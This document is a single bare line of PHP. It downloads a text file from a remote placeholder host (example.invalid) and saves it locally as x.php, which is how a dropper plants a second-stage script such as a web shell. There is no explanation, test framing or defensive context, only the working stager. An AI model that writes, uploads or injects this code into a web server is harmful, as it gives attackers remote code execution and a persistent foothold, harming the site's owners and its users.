<?php file_put_contents('x.php', file_get_contents('http://example.invalid/p.txt')); ?>
